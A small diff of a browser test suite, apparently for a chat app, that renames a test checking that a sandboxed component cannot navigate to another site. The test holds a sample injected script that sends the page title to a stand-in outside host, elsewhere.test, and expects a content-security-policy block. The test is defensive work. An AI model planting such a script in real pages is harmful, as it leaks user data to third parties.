@@ -80,7 +80,7 @@ def test_a_component_runs_and_reaches_nothing_outside_of_its_frame(browser: Brow
     assert chat.url == before
 
 
-def test_a_component_that_goes_elsewhere_gets_nowhere(browser: BrowserContext, chat: Chat) -> None:
+def test_a_component_cannot_navigate_to_another_site(browser: BrowserContext, chat: Chat) -> None:
     reached = elsewhere(browser)
     leak = f"<script>location = '{ELSEWHERE}?' + encodeURIComponent(document.title)</script>"
     with chat.page.expect_console_message(lambda said: "elsewhere.test" in said.text and "frame-src" in said.text):
